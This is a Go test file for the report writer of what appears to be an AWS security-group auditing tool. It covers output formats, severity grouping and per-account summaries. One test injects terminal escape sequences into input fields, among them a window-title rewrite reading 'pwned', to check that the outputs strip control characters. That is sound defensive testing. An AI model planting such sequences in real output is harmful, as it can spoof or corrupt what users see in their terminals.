			if got := renderFormat(t, "json", WriterOptions{}, r); !bytes.Equal(got, want) {
				t.Errorf("Write(json) streamed differs from the whole document:\n got %s\nwant %s", got, want)
			}
		})
	}
}

// TestWriteWhereToFix checks that every text format names the prefix list a finding's
// rule names, the entry, and what of an invalid rule could not be parsed.
func TestWriteWhereToFix(t *testing.T) {
	for _, format := range []string{"table", "csv", "markdown", "json"} {
		t.Run(format, func(t *testing.T) {
			out := string(renderFormat(t, format, WriterOptions{}, reportFixture()))
			for _, want := range []string{"pl-0c0ffee1234567890", "office-ranges", "Alice home until 2025-03-01",
				"sg-0a1b2c3d4e5f60718:ingress:tcp:22:pl-0c0ffee1234567890", "not an IP prefix"} {
				if !strings.Contains(out, want) {
					t.Errorf("Write(%s) lacks %q:\n%s", format, want, out)
				}
			}
		})
	}
}

// TestWriteUnvettedGrouped: one provider failure for many addresses reads as one line per
// provider and reason in the table's and the Markdown's summary, not one per address.
func TestWriteUnvettedGrouped(t *testing.T) {
	const reason = "quota exhausted: daily limit of 4000 lookups reached"
	r := &Report{Run: Run{Providers: []ProviderRun{{Provider: "metadefender"}, {Provider: "blocklist"}}}}
	for i := range 50 {
		addr := netip.AddrFrom4([4]byte{203, 0, 113, byte(i + 1)})
		target := reputation.Target{Prefix: netip.PrefixFrom(addr, 32)}
		md := reputation.Verdict{Provider: "metadefender", Target: target, Status: reputation.Unknown, Reason: reason}
		bl := reputation.Verdict{Provider: "blocklist", Target: target, Status: reputation.Clean}
		r.Findings = append(r.Findings, Finding{Kind: Unvetted, Severity: Info,
			ref:      &RuleRef{GroupID: "sg-0a1b2c3d4e5f60718", RuleID: "sgr-0aa11bb22cc33dd4" + strconv.Itoa(i), CIDR: target.String()},
			reasons:  []string{"no provider could answer for " + addr.String()},
			Verdicts: []reputation.Verdict{md, bl}})
	}
	r.Summary.AddressesUnvetted = 50
	for _, tt := range []struct{ format, want string }{
		{"table", "metadefender: 50 addresses: " + reason},
		{"markdown", "metadefender: 50 addresses: " + mdEscape(reason)},
	} {
		t.Run(tt.format, func(t *testing.T) {
			out := string(renderFormat(t, tt.format, WriterOptions{Width: 200}, r))
			if n := strings.Count(out, tt.want); n != 1 {
				t.Errorf("Write(%s) has %q %d times, want once:\n%s", tt.format, tt.want, n, out)
			}
			if tt.format == "table" {
				if n := strings.Count(out, reason); n != 1 {
					t.Errorf("Write(table) has %q %d times, want once:\n%s", reason, n, out)
				}
			}
		})
	}
}

// TestWriteNewColumnsOneLine: the prefix list and invalid-rule texts, which come from AWS
// and from input files, reach no format with a control character.
func TestWriteNewColumnsOneLine(t *testing.T) {
	r := &Report{Findings: []Finding{{Kind: InvalidRule, Severity: Info, ref: &RuleRef{GroupID: "sg-1", RuleID: "sgr-1",
		PrefixList: &collector.PrefixListRef{ID: "pl-1\x1b[2J", Name: "office\x1b]0;pwned\x07", EntryDescription: "Alice\x1b[31m home"},
		Invalid:    &collector.Invalid{Field: collector.FieldCIDR, Text: "10.0.0.1/33\x1b[1A", Reason: "bad\x08 prefix"}}}}}
	for _, format := range []string{"table", "csv", "markdown"} {
		t.Run(format, func(t *testing.T) {
			out := string(renderFormat(t, format, WriterOptions{}, r))
			if i := strings.IndexAny(out, "\x1b\x07\x08"); i >= 0 {
				t.Errorf("Write(%s) has a control character at %d:\n%q", format, i, out)
			}
		})
	}
}

// groupBySeverity puts the most serious first and unknown severities last by name; findings
// already in that order, as Build leaves them, are grouped in place rather than copied.
func TestGroupBySeverity(t *testing.T) {
	of := func(sevs ...Severity) []Finding {
		var out []Finding
		for i, s := range sevs {
			out = append(out, NewFinding(OpenToWorld, s, RuleRef{RuleID: fmt.Sprint("sgr-", i)}))
		}
		return out
	}
	for _, tc := range []struct {
		name     string
		findings []Finding
		want     string
		inPlace  bool
	}{
		{"in order", of(Critical, Critical, High, Low, "zeta"), "critical:sgr-0,sgr-1 high:sgr-2 low:sgr-3 zeta:sgr-4", true},
		{"out of order", of(Low, "zeta", Critical, "alpha", High, Critical), "critical:sgr-2,sgr-5 high:sgr-4 low:sgr-0 alpha:sgr-3 zeta:sgr-1", false},
		{"unknown out of name order", of("zeta", "alpha"), "alpha:sgr-1 zeta:sgr-0", false},
		{"none", nil, "", true},
	} {
		groups := groupBySeverity(tc.findings)
		var parts []string
		for _, g := range groups {
			var ids []string
			for i := range g.Findings {
				ids = append(ids, g.Findings[i].Ref().RuleID)
			}
			parts = append(parts, string(g.Severity)+":"+strings.Join(ids, ","))
		}
		if got := strings.Join(parts, " "); got != tc.want {
			t.Errorf("%s: groupBySeverity = %q, want %q", tc.name, got, tc.want)
		}
		if len(groups) > 0 && (&groups[0].Findings[0] == &tc.findings[0]) != tc.inPlace {
			t.Errorf("%s: groups share the findings' array = %v, want %v", tc.name, !tc.inPlace, tc.inPlace)
		}
	}
}

func TestWriteMarkdownAccounts(t *testing.T) {
	const head = "| Account | Findings | Critical | High | Medium | Low | Info |"
	for _, tt := range []struct {
		name string
		r    *Report
		want string
	}{
		{"one account", oneAccountFixture(), ""},
		{"two accounts", reportFixture(), head + "\n|---|--:|--:|--:|--:|--:|--:|\n| 111111111111 | 14 | 2 | 2 | 3 | 5 | 2 |\n| 222222222222 | 2 | 0 | 0 | 2 | 0 | 0 |\n"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			out := string(renderFormat(t, "markdown", WriterOptions{}, tt.r))
			got := ""
			if i := strings.Index(out, head); i >= 0 {
				got = out[i:]
				got = got[:strings.Index(got, "\n\n")+1]
			}
			if got != tt.want {
				t.Errorf("Write(markdown, %q) counts by account = %q, want %q", tt.name, got, tt.want)
			}
		})
	}
}

func TestUnknownText(t *testing.T) {
	for _, tc := range []struct {
		u    collector.UnknownContext
		want string
	}{
		{collector.UnknownContext{Account: "111122223333", Region: "us-east-1", Context: collector.ContextAttribution, Reason: "AccessDeniedException"},
			"attribution unknown in account 111122223333, region us-east-1: AccessDeniedException"},
		{collector.UnknownContext{Context: collector.ContextAttribution, Reason: "input files carry no CloudTrail events"},
			"attribution unknown: input files carry no CloudTrail events"},
	} {
		if got := unknownText(tc.u); got != tc.want {
			t.Errorf("unknownText(%+v) = %q, want %q", tc.u, got, tc.want)
		}
	}
}
